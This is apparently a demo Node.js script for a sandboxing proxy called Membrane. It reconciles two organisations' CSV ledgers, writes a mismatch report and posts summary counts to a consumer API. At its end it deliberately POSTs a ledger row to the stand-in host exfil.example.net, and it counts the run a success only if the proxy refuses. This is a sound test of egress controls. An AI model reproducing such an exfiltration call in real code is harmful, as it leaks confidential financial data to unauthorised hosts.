#!/usr/bin/env node
// The demo's untrusted application: reconciles two organisations' ledgers.
// It sees only ordinary files: the two mounted datasources (plaintext, read-only)
// and the mounted datasink it writes its report to. It knows nothing of keys.
//
//   reconcile.mjs <ledger-a dir> <ledger-b dir> <output dir> [consumer API URL]
//
// With a consumer API URL it also posts its summary counts there. Its only way out is the
// proxy Membrane gives it in HTTP_PROXY: it sends plain http:// and the proxy carries the
// call over TLS it verifies itself (trusted mode, the consumer's certificate pinned). It
// then tries to send a ledger row to a host the spec does not allow, which must be refused.
//
// Each ledger is one or more CSV files: id,counterparty,amount,currency,date.
// Records are matched by id; amounts/currencies/dates are compared field by field.
import { readdir, readFile, writeFile } from 'node:fs/promises';
import { request } from 'node:http';
import { join } from 'node:path';

const [dirA, dirB, outDir, consumerApi] = process.argv.slice(2);
if (!dirA || !dirB || !outDir) {
  console.error('usage: reconcile.mjs <ledger-a dir> <ledger-b dir> <output dir>');
  process.exit(2);
}

async function load(dir) {
  const rows = new Map();
  for (const name of (await readdir(dir)).filter((n) => n.endsWith('.csv')).sort()) {
    const [header, ...lines] = (await readFile(join(dir, name), 'utf8')).trim().split('\n');
    const cols = header.split(',');
    for (const line of lines) {
      const rec = Object.fromEntries(line.split(',').map((v, i) => [cols[i], v]));
      rows.set(rec.id, rec);
    }
  }
  return rows;
}

const [a, b] = await Promise.all([load(dirA), load(dirB)]);
const mismatches = [];
for (const [id, ra] of a) {
  const rb = b.get(id);
  if (!rb) {
    mismatches.push({ id, issue: 'missing at B', a: ra.amount });
    continue;
  }
  for (const f of ['amount', 'currency', 'date']) {
    if (ra[f] !== rb[f]) mismatches.push({ id, issue: `${f} differs`, a: ra[f], b: rb[f] });
  }
}
for (const id of b.keys())
  if (!a.has(id)) mismatches.push({ id, issue: 'missing at A', b: b.get(id).amount });

const lines = [
  'Reconciliation report',
  `records at A: ${a.size}, at B: ${b.size}, matched: ${[...a.keys()].filter((id) => b.has(id)).length}`,
  `mismatches: ${mismatches.length}`,
  '',
  'id,issue,a,b',
  ...mismatches.map((m) => [m.id, m.issue, m.a ?? '', m.b ?? ''].join(',')),
];
await writeFile(join(outDir, 'report.csv'), `${lines.join('\n')}\n`);
console.log(
  `reconcile: compared ${a.size} + ${b.size} records, ${mismatches.length} mismatches, report written`,
);

/** One absolute-form request through the proxy in HTTP_PROXY (with its per-run credentials). */
function viaProxy(method, url, body) {
  const proxy = new URL(process.env.HTTP_PROXY);
  const headers = {
    host: new URL(url).host,
    'content-type': 'application/json',
    'content-length': Buffer.byteLength(body),
  };
  if (proxy.username)
    headers['proxy-authorization'] =
      `Basic ${Buffer.from(`${decodeURIComponent(proxy.username)}:${decodeURIComponent(proxy.password)}`).toString('base64')}`;
  return new Promise((resolve, reject) => {
    const req = request({ host: proxy.hostname, port: proxy.port, method, path: url, headers }, (res) => {
      let text = '';
      res.setEncoding('utf8').on('data', (d) => (text += d));
      res.on('end', () => resolve({ status: res.statusCode, reason: res.headers['membrane-reason'], text }));
    });
    req.on('error', reject);
    req.end(body);
  });
}

if (consumerApi) {
  if (!process.env.HTTP_PROXY) {
    console.error('reconcile: no HTTP_PROXY: Membrane gives the app its only way out');
    process.exit(1);
  }
  const summary = { recordsA: a.size, recordsB: b.size, mismatches: mismatches.length };
  const sent = await viaProxy('POST', `${consumerApi}/summary`, JSON.stringify(summary));
  console.log(
    `reconcile: summary counts posted to the consumer API: HTTP ${sent.status} ${sent.text.trim()}`,
  );
  if (sent.status !== 200) process.exit(1);
  // A row of a publisher's ledger to a host nobody allowed: this must not leave.
  const row = JSON.stringify([...a.values()][0]);
  const exfil = await viaProxy('POST', 'http://exfil.example.net/upload', row);
  console.log(
    `reconcile: sending a ledger row to exfil.example.net: HTTP ${exfil.status}, Membrane-Reason: ${exfil.reason}`,
  );
  if (exfil.status < 400) process.exit(1);
}
